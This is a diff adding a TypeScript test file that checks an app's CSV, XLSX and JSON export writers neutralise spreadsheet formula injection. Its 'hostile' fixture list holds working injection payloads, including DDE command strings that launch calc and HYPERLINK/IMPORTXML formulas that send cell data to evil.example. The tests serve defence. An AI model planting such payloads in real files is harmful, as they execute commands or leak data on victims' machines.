@@ -1,0 +1,163 @@
+/** Writers of files: nothing a buyer types becomes a formula, and what was written reads back. */
+import {
+  csvCell,
+  harmlessCell,
+  usualFormat,
+  type ExportDefinition,
+  type ExportFormat,
+} from "@stallkeeper/domain";
+import { describe, expect, test } from "vitest";
+import { openRows } from "../../imports/file/open-rows.ts";
+import { cellsOf, fileColumns, type Cell } from "./cells.ts";
+import { fileWriters } from "./file-writers.ts";
+
+const hostile = [
+  "=1+1",
+  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  "+1+1",
+  "+cmd|' /C calc'!A0",
+  "-1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "@import",
+  "\t=1+1",
+  "\r=1+1",
+  "\n=1+1",
+  " =1+1",
+  "\u00a0=1+1",
+  "\u{feff}=1+1",
+  "＝1+1",
+  "＋1+1",
+  "－1+1",
+  "＠SUM(1)",
+  "=",
+  "+",
+  "-",
+  "@",
+  "\ttab",
+  "\rline",
+  '="a","b"',
+  "=A1;B1",
+  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+  '=DDE("cmd";"/C calc";"!A0")',
+  "-@evil",
+];
+const numbers = ["-5", "+49", "-12.50", "-1.234,56", "12", "0.10"];
+const definition: ExportDefinition = {
+  set: "orders",
+  filter: { range: "all", from: null, to: null, accounts: [], status: "any" },
+  columns: [
+    { id: "items", name: "Items" },
+    { id: "notes", name: "=Notes" },
+    { id: "total", name: "Total" },
+    { id: "placed_at", name: "Placed" },
+    { id: "is_gift", name: "Gift" },
+  ],
+  format: usualFormat,
+};
+const columns = fileColumns(definition, true);
+const rows = hostile.map((text) =>
+  cellsOf(columns, {
+    items: text,
+    notes: text,
+    total: -1_250,
+    currency: "GBP",
+    placed_at: "2026-03-29 16:30",
+    is_gift: true,
+  }),
+);
+
+async function write(format: ExportFormat, all: Cell[][], batch = 7): Promise<Buffer> {
+  const writer = fileWriters[format.kind];
+  const opened = await writer.open(columns, format);
+  const pieces = [opened.bytes];
+  let { state } = opened;
+  for (let at = 0; at < all.length; at += batch) {
+    // What goes on is what was kept: plain JSON.
+    const kept = JSON.parse(JSON.stringify(state)) as typeof state;
+    const written = await writer.rows(kept, columns, format, all.slice(at, at + batch));
+    pieces.push(written.bytes);
+    state = written.state;
+  }
+  pieces.push(await writer.close(state, columns, format));
+  return Buffer.concat(pieces);
+}
+async function read(file: Buffer): Promise<string[][]> {
+  const source = openRows(file);
+  return (await source.next(1_000)).map(({ cells }) => cells);
+}
+
+/** As our own reader shows cells: without marks of an encoding. */
+const withoutMark = (text: string): string => text.replaceAll("\u{feff}", "");
+
+describe("cells", () => {
+  test.each(hostile)("%j is made harmless", (text) => {
+    expect(harmlessCell(text)).toBe(`'${text}`);
+    expect(csvCell(text)).toMatch(/^"?'/);
+  });
+
+  test.each(numbers)("the number %s stays", (text) => {
+    expect(harmlessCell(text)).toBe(text);
+  });
+});
+
+describe("files", () => {
+  test.each([",", ";", "\t"] as const)(
+    "[SECTION-EXPORT] CSV by %j holds 30 hostile cells in each column as texts, numbers as numbers",
+    async (delimiter) => {
+      expect(hostile).toHaveLength(30);
+      const file = await write({ ...usualFormat, delimiter }, rows);
+      const back = await read(file);
+      expect(back[0]).toEqual(["Items", "'=Notes", "Total", "Placed", "Gift"]);
+      expect(back.slice(1)).toEqual(
+        hostile.map(withoutMark).map((text) => [`'${text}`, `'${text}`, "-12.50", "2026-03-29", "yes"]),
+      );
+    },
+  );
+
+  test("CSV takes a comma for the decimals, without a mark, and days first", async () => {
+    const format = {
+      ...usualFormat,
+      delimiter: ";",
+      decimalMark: ",",
+      hasByteOrderMark: false,
+      dates: "DD.MM.YYYY",
+    } as const;
+    const file = (await write(format, rows.slice(3, 4))).toString();
+    expect(file).toBe("Items;'=Notes;Total;Placed;Gift\r\n'+1+1;'+1+1;\"-12,50\";29.03.2026;yes\r\n");
+  });
+
+  test("XLSX holds the same texts as they are, none as a formula, and reads back the same", async () => {
+    const format = { ...usualFormat, kind: "xlsx", dates: "YYYY-MM-DD HH:mm" } as const;
+    const back = await read(await write(format, rows));
+    expect(back.slice(1)).toEqual(
+      hostile.map(withoutMark).map((text) => [text, text, "-12.5", "46110.6875", "TRUE"]),
+    );
+    expect((await write(format, rows, 3)).equals(await write(format, rows, 3))).toBe(true);
+  });
+
+  test("XLSX keeps what XML can't hold out, and long texts within what a cell holds", async () => {
+    const format = { ...usualFormat, kind: "xlsx" } as const;
+    const odd = ["a\u0000b\u0008c", "<&>\"'", "_x000D_", "x".repeat(40_000), "\ud800 lone"];
+    const back = await read(
+      await write(
+        format,
+        odd.map((items) => cellsOf(columns, { items, total: 1, currency: "JPY" })),
+      ),
+    );
+    const first = back.slice(1).map(([one]) => one ?? "");
+    expect(first.toSpliced(3, 1)).toEqual(["abc", "<&>\"'", "_x005F_x000D_", "\ufffd lone"]);
+    expect(first[3]).toMatch(/^x+$/);
+    expect(back[1]?.[2]).toBe("1");
+  });
+
+  test("JSON holds texts as they are and numbers with all their digits", async () => {
+    const file = await write({ ...usualFormat, kind: "json" }, rows);
+    const back = JSON.parse(file.toString()) as Record<string, unknown>[];
+    expect(back.map((row) => row["Items"])).toEqual(hostile);
+    expect(back[0]).toMatchObject({ Total: -12.5, Placed: "2026-03-29", Gift: true });
+    expect(file.toString()).toContain('"Total":-12.50');
+    expect(JSON.parse((await write({ ...usualFormat, kind: "json" }, [])).toString())).toEqual([]);
+  });
+});
